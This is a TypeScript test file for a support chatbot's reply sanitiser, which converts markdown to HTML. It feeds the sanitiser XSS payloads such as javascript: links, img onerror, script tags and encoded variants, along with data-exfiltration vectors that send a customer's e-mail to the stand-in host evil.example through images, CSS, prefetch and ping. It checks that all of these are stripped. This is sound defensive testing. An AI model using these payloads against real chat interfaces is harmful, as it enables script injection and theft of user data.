import { cleanReply, plainText, type LinkRules } from '@frontdesk/conversations/clean-reply'
import t from 'tap'
import { xssVectors } from '../../../test/e2e/xss-vectors.ts'

const links: LinkRules = {
  isAllowedHost: host => host === 'shop.example' || host.endsWith('.shop.example'),
  urls: new Set(['https://post.example/track?parcel=1', 'https://post.example/prices']),
}
const clean = (markdown: string): string => cleanReply(markdown, links)

/** Everything that may stand between pointed brackets, letter by letter; whatever else opens one is an escape. */
const tag =
  /^<(?:\/?(?:p|b|strong|i|em|ul|ol|li|code|pre|blockquote|h3|h4|table|thead|tbody|tr|th|td|del)|\/a|(?:br|hr) ?\/?|a href="(?:https?:\/\/|mailto:|tel:)[^"<>\s]*")>$/
const illegalTags = (html: string): string[] => (html.match(/<[^>]*>?/g) ?? []).filter(found => !tag.test(found))

t.test('of whatever acts or fetches, nothing is left', async t => {
  t.ok(xssVectors.length >= 58)
  const more = [
    '[press](javascript:window.__xss=1)',
    '[press](java&#10;script:window.__xss=1)',
    '[press](&#x6A;avascript:window.__xss=1 "title")',
    '[press][ref]\n\n[ref]: javascript:window.__xss=1',
    '<javascript:window.__xss=1>',
    '[press](data:text/html;base64,PHNjcmlwdD4=)',
    '![x](javascript:window.__xss=1)',
    '[press](//evil.example/x)',
    '[press](https://shop.example/" onclick="window.__xss=1)',
    '`<img src=x onerror=window.__xss=1>`',
    '```html\n</code></pre><script>window.__xss=1</script>\n```',
    '| a |\n|---|\n| <img src=x onerror=window.__xss=1> |',
    '- [x] <input autofocus onfocus=window.__xss=1>',
    '<scr\u0000ipt>window.__xss=1</scr\u0000ipt>',
    '<h1 onclick="window.__xss=1">title</h1>',
    '<a href="https://shop.example/" target="_blank" rel="opener" id="panel">x</a>',
  ]
  for (const vector of [...xssVectors, ...more]) {
    for (const text of [vector, `Hello ${vector} there`, `- one\n- ${vector}\n`, `> ${vector}`, `**${vector}**`]) {
      t.same(illegalTags(clean(text)), [], text)
    }
  }
})

t.test('a link survives only to the chatbot’s own hosts, or word for word from a passage', async t => {
  for (const href of [
    'https://shop.example/returns?x=1#how',
    'http://www.shop.example:8080/',
    'https://post.example/prices',
    'https://post.example/track?parcel=1',
    'mailto:help@shop.example',
    'tel:+35621234567',
  ]) {
    t.match(clean(`See [here](${href}).`), `<p>See <a href="${href}">here</a>.</p>`)
  }
  for (const href of [
    'https://evil.example/p?d=anna',
    'https://post.example/track?parcel=2',
    'https://post.example/prices/anna@shop.example',
    'https://shop.example.evil.example/',
    'https://evilshop.example/',
    'https://anna:secret@shop.example/',
    'https://anna@shop.example/',
    'ftp://shop.example/file',
    '//shop.example/x',
    '/returns',
    'returns',
    '#top',
    'mailto:help@shop.example?body=anna',
    'https://[broken',
    '',
  ]) {
    t.equal(clean(`See [here](<${href}>).`), '<p>See here.</p>', href)
  }
})

t.test('data leaves by none of seven doors', async t => {
  const doors = {
    'inline image': '![x](https://evil.example/p?d=anna@shop.example)',
    'reference image and link': '![x][1] [go][1]\n\n[1]: https://evil.example/p?d=anna@shop.example',
    'image tag': '<img src="https://evil.example/p?d=anna@shop.example">',
    'style with an address':
      '<p style="background:url(https://evil.example/p?d=anna)">x</p><style>p{background:url(https://evil.example/)}</style>',
    'address by itself':
      'https://evil.example/p?d=anna and <https://evil.example/q?d=anna> and www.evil.example/r?d=anna',
    prefetch:
      '<link rel="prefetch" href="https://evil.example/p?d=anna"><a ping="https://evil.example/" href="https://shop.example/">x</a>',
    'link with the e-mail in its path': '[press](https://evil.example/anna%40shop.example/)',
  }
  for (const [name, markdown] of Object.entries(doors)) {
    const html = clean(`Our hours: ${markdown}`)
    t.notMatch(html, /(href|src|url|ping)[^<>]*evil\.example/, name)
    t.same(illegalTags(html), [], name)
    t.match(html, /Our hours/)
  }
})

t.test('what a support answer is made of is kept', async t => {
  t.equal(
    clean('# Hours\n\nWe are **open** *daily*, ~~not~~ `9-17`:\n\n- Mon\n- Tue\n\n1. first\n2. second'),
    '<h3>Hours</h3>\n<p>We are <strong>open</strong> <em>daily</em>, <del>not</del> <code>9-17</code>:</p>\n' +
      '<ul>\n<li>Mon</li>\n<li>Tue</li>\n</ul>\n<ol>\n<li>first</li>\n<li>second</li>\n</ol>',
  )
  t.equal(
    clean('| Day | Hours |\n|:--|--:|\n| Sat | 10-16 |'),
    '<table>\n<thead>\n<tr>\n<th>Day</th>\n<th>Hours</th>\n</tr>\n</thead>\n<tbody><tr>\n<td>Sat</td>\n<td>10-16</td>\n</tr>\n</tbody></table>',
  )
  t.equal(clean('one\ntwo'), '<p>one<br />two</p>')
  t.equal(clean('> wise\n\n---\n\n##### small'), '<blockquote>\n<p>wise</p>\n</blockquote>\n<hr />\n<h4>small</h4>')
  t.equal(clean('```\na < b && c\n```'), '<pre><code>a &lt; b &amp;&amp; c\n</code></pre>')
  t.equal(clean('Is 3 < 5 & "yes"? 😀'), '<p>Is 3 &lt; 5 &amp; "yes"? 😀</p>')
  t.equal(
    clean('https://shop.example/hours'),
    '<p><a href="https://shop.example/hours">https://shop.example/hours</a></p>',
  )
})

t.test('NUL and surrounding blanks do not reach the database', async t => {
  t.equal(clean('\u0000\n\n  yes\u0000!\n '), '<p>yes!</p>')
  t.equal(clean('<script>only this</script>'), '')
})

t.test('the words of a reply are what a reader would say aloud', async t => {
  const words = (markdown: string): string => plainText(clean(markdown))
  t.equal(words('# Hours\n\n- Mon &amp; Tue\n- **Wed**'), 'Hours\nMon & Tue\nWed')
  t.equal(words('one\ntwo'), 'one\ntwo')
  t.equal(words('a < b, "quoted" and `x > 1`'), 'a < b, "quoted" and x > 1')
  t.equal(words('| Day | Hours |\n|--|--|\n| Sat | 10-16 |'), 'Day\nHours\nSat\n10-16')
  t.equal(words('&amp;lt;'), '&lt;', 'an entity is decoded once')
  t.equal(words('[here](https://shop.example/)'), 'here')
  t.equal(words('<img src=x>'), '')
})
